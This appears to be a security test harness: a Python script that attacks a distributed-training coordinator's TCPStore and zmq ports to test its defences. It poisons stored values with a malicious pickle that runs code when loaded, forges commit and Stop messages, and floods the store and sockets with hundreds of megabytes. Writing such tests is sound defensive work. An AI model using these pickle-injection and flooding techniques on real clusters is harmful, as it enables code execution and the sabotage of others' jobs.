"""A client WITHOUT the job's secret that attacks every TCP port a coordinator listens on.

Run as ``python rendezvous_attacker.py <coordinator pid> <job> <marker path> <report path>``
beside a running job (tests/dist/test_rendezvous_attack.py). It finds the ports as ``ss
-ltnp`` would (the coordinator's listening sockets), then, on each port, tries what a
torch ``TCPStore`` client can do (list the keys; replace every pickled value it sees with a
pickle that creates the marker file; forge the step agreement with a Stop order and pre-set
the commit decisions to abort; write junk; flood 4 MiB values) and what a zmq peer can do
(a multipart message of 8 MiB frames that never ends), until it is terminated. What worked
is written to the report (JSON) as it happens.
"""
from __future__ import annotations

import json
import pathlib
import socket
import sys
import threading
import time
from datetime import timedelta

import psutil

FLOOD_VALUES = 64  # x 4 MiB into a store: 256 MiB
FLOOD_FRAMES = 64  # x 8 MiB of one multipart message that never ends: 512 MiB


class Marker:
    """Unpickling this creates the marker file: code of the attacker's choice ran."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):  # noqa: ANN204 - pickle protocol
        return (pathlib.Path.touch, (pathlib.Path(self.path),))


class Report:
    def __init__(self, path: str) -> None:
        self.path = path
        self.data: dict = {"ports": [], "store_clients": 0, "keys_listed": 0,
                           "overwritten": [], "forged": [], "junk": 0, "flooded_bytes": 0,
                           "multipart_bytes_sent": 0, "errors": []}
        self.lock = threading.Lock()

    def note(self, **kw: object) -> None:
        with self.lock:
            for k, v in kw.items():
                if isinstance(self.data.get(k), list):
                    self.data[k].append(v)
                elif isinstance(self.data.get(k), int):
                    self.data[k] += int(v)  # type: ignore[call-overload]
                else:
                    self.data[k] = v
            tmp = self.path + ".tmp"
            with open(tmp, "w") as f:
                json.dump(self.data, f)
            pathlib.Path(tmp).replace(self.path)


def listening_ports(pid: int) -> list[tuple[str, int]]:
    proc = psutil.Process(pid)
    return sorted({(c.laddr.ip, c.laddr.port) for c in proc.net_connections("tcp")
                   if c.status == psutil.CONN_LISTEN})


def attack_store(port: int, job: str, marker: str, report: Report) -> None:
    import pickle

    import torch.distributed as dist

    from slurm_etc.worker.control import ENCODER, Stop

    try:
        store = dist.TCPStore("127.0.0.1", port, is_master=False,
                              timeout=timedelta(seconds=3))
        store.list_keys()
    except Exception as e:  # noqa: BLE001 - the port is not a TCPStore: refused
        report.note(errors=f"store client on {port}: {type(e).__name__}: {str(e)[:100]}")
        return
    report.note(store_clients=1)
    poison = pickle.dumps(Marker(marker))
    done: set[str] = set()
    forged = False
    flooded = False
    t0 = time.monotonic()
    while True:
        try:
            keys = store.list_keys()
        except Exception as e:  # noqa: BLE001 - the store went away with the job
            report.note(errors=f"list_keys: {e}"[:200])
            return
        report.data["keys_listed"] = max(report.data["keys_listed"], len(keys))
        for k in keys:
            if k in done:
                continue
            if k.endswith("/trainer") or "/rng/" in k or "/holdings/" in k:
                store.set(k, poison)
                done.add(k)
                report.note(overwritten=k)
        if not forged and time.monotonic() - t0 > 8:
            # forge the next resizes' commit decisions and the coming steps' agreement
            for g in range(1, 6):
                got = store.compare_set(f"{job}/g{g}/commit", "", "abort")
                report.note(forged=f"{job}/g{g}/commit={got!r}")
            agree = [k for k in keys if "/agree/" in k]
            if agree:
                base, step, _r = agree[-1].rsplit("/", 2)
                for s in range(int(step) + 1, int(step) + 40):
                    for r in range(8):
                        store.set(f"{base}/{s}/{r}", ENCODER.encode(Stop(job, 99, "forged")))
                report.note(forged=f"{base}/{int(step) + 1}..: Stop")
                store.set(f"{base}/{int(step) + 41}/0", b"\xff junk")
                report.note(junk=1)
            forged = True
        if forged and not flooded:
            for i in range(FLOOD_VALUES):
                store.set(f"flood/{i}", b"x" * (4 << 20))
                report.note(flooded_bytes=4 << 20)
            flooded = True
        time.sleep(0.005)


def attack_zmq(port: int, report: Report) -> None:
    import zmq

    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.LINGER, 0)
    sock.setsockopt(zmq.SNDHWM, 4)
    sock.connect(f"tcp://127.0.0.1:{port}")
    frame = b"\0" * (8 << 20)
    for _ in range(FLOOD_FRAMES):  # every frame but the last: the message never ends
        try:
            sock.send(frame, zmq.SNDMORE | zmq.NOBLOCK)
        except zmq.Again:
            time.sleep(0.05)
            continue
        report.note(multipart_bytes_sent=len(frame))


def attack_raw(port: int, report: Report) -> None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"\xff" * 10 + b"GET / HTTP/1.0\r\n\r\n" + bytes(range(256)) * 64)
    except OSError as e:
        report.note(errors=f"raw {port}: {e}"[:200])


def main() -> None:
    pid, job, marker, path = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    report = Report(path)
    before = set(listening_ports(pid))
    seen: set[int] = set()
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        for ip, port in listening_ports(pid):
            if port in seen or (ip, port) in before:
                continue
            seen.add(port)
            report.note(ports=f"{ip}:{port}")
            attack_raw(port, report)
            for target, args in ((attack_store, (port, job, marker, report)),
                                 (attack_zmq, (port, report))):
                threading.Thread(target=target, args=args, daemon=True).start()
        time.sleep(0.2)


if __name__ == "__main__":
    main()
